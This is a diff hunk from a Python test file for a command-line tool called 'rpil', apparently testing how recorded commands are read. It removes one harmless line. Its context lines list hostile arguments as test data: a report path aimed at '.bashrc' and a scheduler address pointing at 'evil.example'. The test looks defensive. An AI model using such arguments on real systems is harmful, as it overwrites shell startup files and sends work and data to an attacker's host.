@@ -116,7 +116,6 @@ def test_a_run_is_read_as_it_was_written(tmp_path, make):
         ("command", "rpil audit x.csv --report /home/me/.bashrc"),
         ("command", "rpil audit x.csv --report=.bashrc"),
         ("command", "rpil audit --save x.csv y.csv"),
-        ("command", "rpil audit --resume y.csv"),
         ("command", "rpil audit x.csv --weights w.csv"),
         ("command", "rpil audit x.csv --scheduler tcp://evil.example:8786"),
         ("command", "rpil audit x.csv --scheduler=tcp://evil.example:8786"),
